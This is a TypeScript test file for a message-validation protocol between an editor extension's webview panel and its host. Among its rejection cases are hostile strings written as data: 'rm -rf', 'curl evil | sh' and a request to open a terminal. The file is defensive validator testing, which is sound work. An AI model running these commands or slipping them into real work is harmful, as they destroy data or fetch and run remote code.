// The panel ↔ host protocol rejects anything malformed; valid messages round-trip unchanged.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parseHostMessage, parseWebviewMessage } from '../../src/views/protocol';
import { samplePanelData } from './fixtures';

test('a full show message validates and round-trips through JSON (postMessage is structured clone)', () => {
  const msg = { type: 'show', data: samplePanelData() };
  const r = parseHostMessage(JSON.parse(JSON.stringify(msg)));
  assert.equal(r.ok, true);
  assert.deepEqual(r.ok && r.message, msg);
});

test('host messages: wrong shapes are rejected with a path', () => {
  const bad: [unknown, RegExp][] = [
    [null, /message/],
    [{ type: 'show' }, /data/],
    [{ type: 'explode' }, /type/],
    [{ type: 'speed', point: { t: 1, tokPerSec: -3 } }, /point\.tokPerSec/],
    [{ type: 'speed', point: { t: 1, tokPerSec: Number.POSITIVE_INFINITY } }, /tokPerSec/],
    [{ type: 'show', data: { ...samplePanelData(), curve: [{ ctx: 0, weights: 1, kv: 1, overhead: 1 }] } }, /data\.curve\.0\.ctx/],
    [{ type: 'show', data: { ...samplePanelData(), title: 'x'.repeat(301) } }, /data\.title/],
    [{ type: 'empty', message: 'x', actions: ['rm -rf'] }, /actions/],
  ];
  for (const [raw, path] of bad) {
    const r = parseHostMessage(raw);
    assert.equal(r.ok, false, JSON.stringify(raw)?.slice(0, 80));
    assert.match(!r.ok ? r.error : '', path);
  }
});

test('webview messages: only ready, a row id, or one of our fixed commands', () => {
  assert.deepEqual(parseWebviewMessage({ type: 'ready' }), { ok: true, message: { type: 'ready' } });
  assert.deepEqual(parseWebviewMessage({ type: 'rowAction', rowId: 'q3' }), { ok: true, message: { type: 'rowAction', rowId: 'q3' } });
  assert.equal(parseWebviewMessage({ type: 'command', command: 'checkModelFit' }).ok, true);
  for (const raw of [
    { type: 'command', command: 'workbench.action.terminal.new' },
    { type: 'rowAction', rowId: 7 },
    { type: 'rowAction', rowId: 'x'.repeat(101) },
    { type: 'copy', text: 'curl evil | sh' },
    'ready',
    undefined,
  ]) {
    assert.equal(parseWebviewMessage(raw).ok, false, JSON.stringify(raw));
  }
  // Extra keys are stripped, not passed through.
  const r = parseWebviewMessage({ type: 'ready', html: '<img>' });
  assert.deepEqual(r, { ok: true, message: { type: 'ready' } });
});
